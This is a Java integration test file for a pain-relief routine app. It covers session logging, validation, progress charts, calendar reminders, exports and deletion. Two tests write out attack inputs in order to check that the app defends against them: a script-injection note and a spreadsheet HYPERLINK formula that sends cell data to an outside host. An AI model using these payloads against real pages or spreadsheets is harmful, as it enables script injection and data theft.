package app.unknot.progress;

import static org.assertj.core.api.Assertions.assertThat;

import app.unknot.CookieJar;
import app.unknot.RestTestClients;
import biweekly.Biweekly;
import biweekly.ICalendar;
import biweekly.component.VEvent;
import biweekly.util.ByDay;
import biweekly.util.DayOfWeek;
import biweekly.util.Frequency;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.jdbc.test.autoconfigure.AutoConfigureTestDatabase;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.context.annotation.Import;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.client.EntityExchangeResult;
import org.springframework.test.web.servlet.client.RestTestClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Sessions through the running app, real catalog and database: logged and listed, refused when
 * wrong with nothing stored, charted, used to make a routine again without what hurt, put in a
 * calendar, exported, listed on the device, and deleted with the routine leaving nothing behind.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT)
@AutoConfigureTestDatabase
@Import(RestTestClients.class)
class ProgressFlowTests {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String LOWER_BACK = """
        {"areas":["lower-back"], "tools":["foam-roller", "tennis-ball"], "minutes":20, "performer":"self", "painLevel":4}""";

    @Autowired
    RestTestClient client;
    @Autowired
    JdbcClient jdbc;

    @Test
    void aSessionIsLoggedAndListedNewestFirst() {
        JsonNode routine = routine(LOWER_BACK);
        String id = routine.get("id").asString();
        String first = step(routine, 0);

        var logged = post("/api/routines/" + id + "/sessions", """
            {"painBefore":5, "painAfter":3, "hurt":["%s"], "note":"  Stiff in the morning.  "}""".formatted(first));
        assertThat(logged.getStatus().value()).isEqualTo(201);
        JsonNode session = json(logged);
        assertThat(session.get("painBefore").asInt()).isEqualTo(5);
        assertThat(session.get("painAfter").asInt()).isEqualTo(3);
        assertThat(session.get("hurt").get(0).asString()).isEqualTo(first);
        assertThat(session.get("note").asString()).isEqualTo("Stiff in the morning.");
        assertThat(session.get("at").asString()).isNotBlank();
        assertThat(post("/api/routines/" + id + "/sessions", "{\"painAfter\":1}").getStatus().value())
            .as("everything but the pain after is optional").isEqualTo(201);

        JsonNode list = json(get("/api/routines/" + id + "/sessions", "application/json"));
        assertThat(list.size()).isEqualTo(2);
        assertThat(list.get(0).get("painAfter").asInt()).as("newest first").isEqualTo(1);
        assertThat(list.get(0).get("painBefore").isNull()).isTrue();
        assertThat(list.get(1).get("painAfter").asInt()).isEqualTo(3);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
        pain after above 10         | {"painAfter":11}                              | painAfter
        pain after below 0          | {"painAfter":-1}                              | painAfter
        pain after missing          | {"painBefore":3}                              | painAfter
        a fraction                  | {"painAfter":2.5}                             | painAfter
        a word for a number         | {"painAfter":"two"}                           | painAfter
        pain before above 10        | {"painBefore":12, "painAfter":2}              | painBefore
        a step of no routine        | {"painAfter":2, "hurt":["cat-cow-of-doom"]}   | hurt
        hurt as text, not a list    | {"painAfter":2, "hurt":"cat-cow"}             | hurt
        a note over 500 characters  | {"painAfter":2, "note":"NOTE"}                | note
        a NUL in the note           | {"painAfter":2, "note":"a\\u0000b"}          | note
        an unknown field            | {"painAfter":2, "mood":"fine"}                | mood
        not an object               | [1, 2]                                        | body
        """)
    void aWrongSessionIsA400ProblemNamingTheParameterAndNothingIsStored(String what, String body, String parameter) {
        String id = routine(LOWER_BACK).get("id").asString();

        var answer = post("/api/routines/" + id + "/sessions", body.replace("NOTE", "x".repeat(501)));

        assertThat(answer.getStatus().value()).as(what).isEqualTo(400);
        assertThat(answer.getResponseHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
        assertThat(json(answer).get("parameter").asString()).as(what).isEqualTo(parameter);
        assertThat(sessionRows(id)).as(what).isZero();
    }

    @Test
    void anUnknownRoutineIs404AndARedFlagRoutineTakesNoSessions() {
        assertThat(post("/api/routines/AAAAAAAAAAAAAAAAAAAAAA/sessions", "{\"painAfter\":2}").getStatus().value()).isEqualTo(404);
        assertThat(get("/api/routines/AAAAAAAAAAAAAAAAAAAAAA/sessions", "application/json").getStatus().value()).isEqualTo(404);

        String stopped = routine(LOWER_BACK.replace("\"painLevel\":4", "\"painLevel\":4, \"redFlags\":[\"fever\"]"))
            .get("id").asString();
        var refused = post("/api/routines/" + stopped + "/sessions", "{\"painAfter\":2}");
        assertThat(refused.getStatus().value()).isEqualTo(400);
        assertThat(json(refused).get("parameter").asString()).isEqualTo("id");
        assertThat(sessionRows(stopped)).isZero();
        assertThat(post("/api/routines/" + stopped + "/again", "").getStatus().value()).isEqualTo(400);
    }

    @Test
    void againLeavesOutWhatHurtAndOnlyThatSayingWhenAndLinksBack() {
        JsonNode routine = routine(LOWER_BACK);
        String id = routine.get("id").asString();
        String hurt = step(routine, 1);
        post("/api/routines/" + id + "/sessions", "{\"painBefore\":4, \"painAfter\":3, \"hurt\":[\"" + hurt + "\"]}");
        post("/api/routines/" + id + "/sessions", "{\"painBefore\":4, \"painAfter\":4}");

        var made = post("/api/routines/" + id + "/again", "");
        assertThat(made.getStatus().value()).isEqualTo(201);
        JsonNode again = json(made);
        assertThat(again.get("madeFrom").asString()).isEqualTo(id);
        assertThat(slugs(again.get("steps"), "technique")).doesNotContain(hurt);
        List<JsonNode> leftForHurting = new ArrayList<>();
        again.get("excluded").forEach(exclusion -> {
            if (exclusion.get("rule").asString().equals("hurt")) {
                leftForHurting.add(exclusion);
            }
        });
        assertThat(leftForHurting).extracting(exclusion -> exclusion.get("technique").asString()).containsExactly(hurt);
        assertThat(leftForHurting.get(0).get("reason").asString()).startsWith("You marked this as hurting or feeling wrong on ");
        assertThat(slugs(again.get("excluded"), "technique")).as("the safety exclusions are the first routine's")
            .containsAll(slugs(routine.get("excluded"), "technique"));
        assertThat(get("/routines/" + again.get("id").asString(), "text/html").getResponseBody())
            .contains("Made again from an earlier routine", "/routines/" + id + "\"", "Hurt or felt wrong last time");
    }

    @Test
    void afterPainRoseByTwoTheFinishPageSaysStopAndTheNextRoutineIsGentleOnly() {
        String id = routine(LOWER_BACK).get("id").asString();
        var logged = postForm("/routines/" + id + "/sessions", "painBefore=3&painAfter=5");
        assertThat(logged.getStatus().value()).isEqualTo(302);
        assertThat(logged.getResponseHeaders().getFirst("Location")).endsWith("/routines/" + id + "/finish");
        String finish = get("/routines/" + id + "/finish", "text/html", new CookieJar().after(logged).header()).getResponseBody();
        assertThat(finish).contains("Your pain was worse afterwards", "get advice from a doctor or physiotherapist");

        JsonNode again = json(post("/api/routines/" + id + "/again", ""));
        assertThat(again.get("steps").valueStream().map(step -> step.get("pressure").asString())).containsOnly("light");
        assertThat(slugs(again.get("excluded"), "rule")).contains("pain-rose");
        assertThat(again.get("status").asString()).isEqualTo("caution");
    }

    @Test
    void theFinishFormRefusesWhatIsWrongKeepsTheAnswersAndStoresNothing() {
        String id = routine(LOWER_BACK).get("id").asString();
        var refused = postForm("/routines/" + id + "/sessions", "painBefore=3&hurt=no-such-step&note=" + "y".repeat(501));
        assertThat(refused.getStatus().value()).isEqualTo(400);
        Document page = Jsoup.parse(refused.getResponseBody());
        assertThat(page.select(".error-summary li a").eachAttr("href")).containsExactly("#painAfter", "#hurt", "#note");
        assertThat(page.selectFirst("input[name=painBefore][value=3]").hasAttr("checked")).isTrue();
        assertThat(sessionRows(id)).isZero();
    }

    @Test
    void theProgressChartShowsTheTablesNumbersAndNotesAreEscaped() {
        String id = routine(LOWER_BACK).get("id").asString();
        int[][] pains = {{6, 4}, {5, 5}, {4, 2}};
        for (int[] pain : pains) {
            post("/api/routines/" + id + "/sessions", "{\"painBefore\":" + pain[0] + ", \"painAfter\":" + pain[1]
                + ", \"note\":\"<script>alert(1)</script>\"}");
        }
        String html = get("/routines/" + id + "/progress", "text/html").getResponseBody();
        Document page = Jsoup.parse(html);

        List<String> tableAfter = page.select("table.sessions td.pain-after").eachText();
        List<String> tableBefore = page.select("table.sessions td.pain-before").eachText();
        List<String> chartAfter = page.select(".pain-chart g.after circle").eachAttr("data-pain");
        List<String> chartBefore = page.select(".pain-chart g.before rect").eachAttr("data-pain");
        Collections.reverse(chartAfter);
        Collections.reverse(chartBefore);
        assertThat(chartAfter).as("the chart runs oldest to newest, the table newest first").isEqualTo(tableAfter)
            .containsExactly("2", "5", "4");
        assertThat(chartBefore).isEqualTo(tableBefore).containsExactly("4", "5", "6");
        assertThat(page.select("table.weeks td").eachText()).containsExactly("3");
        assertThat(html).doesNotContain("<script>alert(1)</script>").contains("&lt;script&gt;alert(1)&lt;/script&gt;");
    }

    @Test
    void aReminderIsARepeatingCalendarEventThatParsesBack() {
        String id = routine(LOWER_BACK).get("id").asString();
        var file = get("/routines/" + id + "/reminder.ics?day=monday&day=thursday&time=18:30", "text/calendar");
        assertThat(file.getStatus().value()).isEqualTo(200);
        assertThat(file.getResponseHeaders().getContentType().toString()).startsWith("text/calendar");

        ICalendar calendar = Biweekly.parse(file.getResponseBody()).first();
        VEvent event = calendar.getEvents().get(0);
        assertThat(event.getRecurrenceRule().getValue().getFrequency()).isEqualTo(Frequency.WEEKLY);
        assertThat(event.getRecurrenceRule().getValue().getByDay()).extracting(ByDay::getDay)
            .containsExactly(DayOfWeek.MONDAY, DayOfWeek.THURSDAY);
        LocalDateTime start = LocalDateTime.ofInstant(event.getDateStart().getValue().toInstant(), ZoneId.systemDefault());
        assertThat(start.getHour()).isEqualTo(18);
        assertThat(start.getMinute()).isEqualTo(30);
        assertThat(Set.of(java.time.DayOfWeek.MONDAY, java.time.DayOfWeek.THURSDAY)).contains(start.getDayOfWeek());
        assertThat(event.getUrl().getValue()).endsWith("/routines/" + id);
        assertThat(event.getSummary().getValue()).isEqualTo("Unknot: your routine for Lower back");
        assertThat(event.getAlarms()).hasSize(1);

        assertThat(get("/routines/" + id + "/reminder.ics?time=18:30", "text/html").getStatus().value()).isEqualTo(400);
        assertThat(get("/routines/" + id + "/reminder.ics?day=monday&time=25:00", "text/html").getStatus().value()).isEqualTo(400);
        assertThat(get("/routines/" + id + "/reminder.ics?day=someday&time=18:00", "text/html").getStatus().value()).isEqualTo(400);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
        ?time=18:30                       | #day       | ''            | 18:30
        ?day=monday&day=friday&time=25:00 | #time      | monday;friday | ''
        ?day=someday&time=late            | #day;#time | ''            | ''
        ?day=tuesday                      | #time      | tuesday       | 18:00
        """)
    void aReminderWithoutADayOrATimeShowsTheFormAgainWithTheAnswersKept(String query, String errors, String checked,
                                                                         String time) {
        String id = routine(LOWER_BACK).get("id").asString();

        var page = get("/routines/" + id + "/reminder.ics" + query, "text/html");

        assertThat(page.getStatus().value()).isEqualTo(400);
        Document html = Jsoup.parse(page.getResponseBody());
        assertThat(html.select(".error-summary li a").eachAttr("href")).containsExactly(errors.split(";"));
        assertThat(html.select("input[name=day][checked]").eachAttr("value"))
            .containsExactlyElementsOf(checked.isEmpty() ? List.of() : List.of(checked.split(";")));
        assertThat(html.selectFirst("input[name=time]").attr("value")).as("a time that is none is not shown").isEqualTo(time);
    }

    @Test
    void theSessionsExportAsCsvAndJson() {
        String id = routine(LOWER_BACK).get("id").asString();
        post("/api/routines/" + id + "/sessions", "{\"painBefore\":5, \"painAfter\":3, \"note\":\"Good, \\\"really\\\"\"}");

        var csv = get("/routines/" + id + "/sessions.csv", "text/csv");
        assertThat(csv.getResponseHeaders().getFirst("Content-Disposition")).contains("attachment");
        List<String> lines = csv.getResponseBody().lines().toList();
        assertThat(lines.get(0)).isEqualTo("Date,Pain before,Pain after,Hurt or felt wrong,Note");
        assertThat(lines.get(1)).endsWith(",5,3,,\"Good, \"\"really\"\"\"");
        JsonNode exported = json(get("/routines/" + id + "/sessions.json", "application/json"));
        assertThat(exported.get(0).get("note").asString()).isEqualTo("Good, \"really\"");
    }

    /** The CSV's headings are for the person reading the spreadsheet; the JSON's field names are the API's. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
        en | Date,Pain before,Pain after,Hurt or felt wrong,Note
        es | Fecha,Dolor antes,Dolor después,Dolió o sentó mal,Nota
        de | Datum,Schmerz davor,Schmerz danach,Tat weh oder fühlte sich falsch an,Notiz
        """)
    void theCsvHeadingsAreInThePersonsLanguage(String language, String headings) {
        String id = routine(LOWER_BACK).get("id").asString();
        post("/api/routines/" + id + "/sessions", "{\"painBefore\":5, \"painAfter\":3}");

        String csv = get("/routines/" + id + "/sessions.csv", "text/csv", "unknot-lang=" + language).getResponseBody();
        String json = get("/routines/" + id + "/sessions.json", "application/json", "unknot-lang=" + language).getResponseBody();

        assertThat(csv.lines().findFirst()).contains(headings);
        assertThat(json).contains("\"painBefore\":5");
    }

    /** A note anyone with the link may write is text in a spreadsheet, never a formula; the app's own numbers are as they were. */
    @Test
    void aNoteThatCouldStartAFormulaIsExportedAsText() {
        String id = routine(LOWER_BACK).get("id").asString();
        post("/api/routines/" + id + "/sessions", "{\"painBefore\":5, \"painAfter\":0, \"note\":\"-1 after\"}");
        post("/api/routines/" + id + "/sessions", """
            {"painBefore":10, "painAfter":3, "note":"=HYPERLINK(\\"http://example.com/?\\"&A1,\\"Click\\")"}""");

        List<String> lines = get("/routines/" + id + "/sessions.csv", "text/csv").getResponseBody().lines().toList();

        assertThat(lines).hasSize(3);
        assertThat(lines.subList(1, 3)).allSatisfy(line -> assertThat(line).matches("\\d{4}-\\d\\d-\\d\\dT[^,]*Z,.*"))
            .extracting(line -> line.substring(line.indexOf(',')))
            .containsExactlyInAnyOrder(",10,3,,\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\"", ",5,0,,'-1 after");
    }

    @Test
    void thisDeviceListsTheRoutinesItOpenedWithTheLastPainAndForgetsOnRequest() {
        String first = routine(LOWER_BACK).get("id").asString();
        String second = routine(LOWER_BACK).get("id").asString();
        post("/api/routines/" + first + "/sessions", "{\"painBefore\":6, \"painAfter\":2}");
        var jar = new CookieJar();
        jar.after(get("/routines/" + first, "text/html"));
        jar.after(get("/routines/" + second, "text/html", jar.header()));

        Document list = Jsoup.parse(get("/routines", "text/html", jar.header()).getResponseBody());
        assertThat(list.select(".your-routines h2 a").eachAttr("href")).as("newest first")
            .containsExactly("/routines/" + second, "/routines/" + first);
        assertThat(list.select(".your-routines li").get(1).text()).contains("pain 6 before, 2 after");

        var forgot = postForm("/routines/forget", "id=" + second, jar.header());
        assertThat(forgot.getStatus().value()).isEqualTo(302);
        jar.after(forgot);
        Document after = Jsoup.parse(get("/routines", "text/html", jar.header()).getResponseBody());
        assertThat(after.select(".your-routines h2 a").eachAttr("href")).containsExactly("/routines/" + first);
        assertThat(get("/routines/" + second, "text/html").getStatus().value()).as("forgetting deletes nothing").isEqualTo(200);
    }

    @Test
    void routinesDeletedElsewhereLeaveThisDevicesListAllAtOnce() {
        List<String> ids = List.of(routine(LOWER_BACK), routine(LOWER_BACK), routine(LOWER_BACK)).stream()
            .map(routine -> routine.get("id").asString()).toList();
        var jar = new CookieJar();
        ids.forEach(id -> jar.after(get("/routines/" + id, "text/html", jar.header())));
        client.delete().uri("/api/routines/" + ids.get(0)).exchange().returnResult(String.class);
        client.delete().uri("/api/routines/" + ids.get(2)).exchange().returnResult(String.class);

        var list = get("/routines", "text/html", jar.header());
        assertThat(Jsoup.parse(list.getResponseBody()).select(".your-routines h2 a").eachAttr("href"))
            .containsExactly("/routines/" + ids.get(1));
        assertThat(list.getResponseHeaders().get("Set-Cookie")).as("one cookie, without both").hasSize(1);
        jar.after(list);
        assertThat(jar.header()).contains(ids.get(1)).doesNotContain(ids.get(0), ids.get(2));
    }

    @Test
    void deletingARoutineLeavesNothingOfItAndItsPagesAnswer404() {
        JsonNode routine = routine(LOWER_BACK);
        String id = routine.get("id").asString();
        post("/api/routines/" + id + "/sessions", "{\"painAfter\":2}");
        List<String> pages = List.of("/routines/" + id, "/routines/" + id + "/sheet", "/routines/" + id + "/steps/1",
            "/routines/" + id + "/finish", "/routines/" + id + "/progress", "/api/routines/" + id,
            "/api/routines/" + id + "/sessions");
        // Kept pages first, so the cache of rendered pages has them.
        pages.forEach(page -> assertThat(get(page, "*/*").getStatus().value()).as(page).isEqualTo(200));

        assertThat(client.delete().uri("/api/routines/" + id).exchange().returnResult(String.class).getStatus().value())
            .isEqualTo(204);

        pages.forEach(page -> assertThat(get(page, "*/*").getStatus().value()).as(page).isEqualTo(404));
        for (String table : List.of("routine where id", "routine_step where routine_id", "routine_exclusion where routine_id",
                "routine_session where routine_id")) {
            assertThat(jdbc.sql("select count(*) from " + table + " = :id").param("id", id).query(Long.class).single())
                .as(table).isZero();
        }
        assertThat(client.delete().uri("/api/routines/" + id).exchange().returnResult(String.class).getStatus().value())
            .isEqualTo(404);
    }

    @Test
    void theDeleteButtonAsksFirstThenDeletes() {
        String id = routine(LOWER_BACK).get("id").asString();
        assertThat(get("/routines/" + id + "/delete", "text/html").getResponseBody()).contains("Delete this routine?",
            "no sessions will be gone for good");
        post("/api/routines/" + id + "/sessions", "{\"painAfter\":2}");
        post("/api/routines/" + id + "/sessions", "{\"painAfter\":1}");
        assertThat(get("/routines/" + id + "/delete", "text/html").getResponseBody()).contains("its 2 sessions will be gone");

        var deleted = postForm("/routines/" + id + "/delete", "");
        assertThat(deleted.getStatus().value()).isEqualTo(302);
        assertThat(deleted.getResponseHeaders().getFirst("Location")).endsWith("/routines");
        assertThat(get("/routines/" + id, "text/html").getStatus().value()).isEqualTo(404);
    }

    private JsonNode routine(String body) {
        var saved = post("/api/routines", body);
        assertThat(saved.getStatus().value()).as(saved.getResponseBody()).isEqualTo(201);
        return json(saved);
    }

    private static String step(JsonNode routine, int index) {
        return routine.get("steps").get(index).get("technique").asString();
    }

    private static List<String> slugs(JsonNode list, String field) {
        return list.valueStream().map(item -> item.get(field).asString()).collect(Collectors.toList());
    }

    private long sessionRows(String id) {
        return jdbc.sql("select count(*) from routine_session where routine_id = :id").param("id", id).query(Long.class).single();
    }

    private EntityExchangeResult<String> post(String path, String json) {
        return client.post().uri(path).contentType(MediaType.APPLICATION_JSON).body(json).exchange().returnResult(String.class);
    }

    private EntityExchangeResult<String> postForm(String path, String form) {
        return postForm(path, form, null);
    }

    private EntityExchangeResult<String> postForm(String path, String form, String cookies) {
        var request = client.post().uri(path).contentType(MediaType.APPLICATION_FORM_URLENCODED).body(form);
        if (cookies != null) {
            request = request.header("Cookie", cookies);
        }
        return request.exchange().returnResult(String.class);
    }

    private EntityExchangeResult<String> get(String path, String accept) {
        return get(path, accept, null);
    }

    private EntityExchangeResult<String> get(String path, String accept, String cookies) {
        var request = client.get().uri(path).header("Accept", accept);
        if (cookies != null && !cookies.isEmpty()) {
            request = request.header("Cookie", cookies);
        }
        return request.exchange().returnResult(String.class);
    }

    private static JsonNode json(EntityExchangeResult<String> answer) {
        return JSON.readTree(answer.getResponseBody());
    }
}
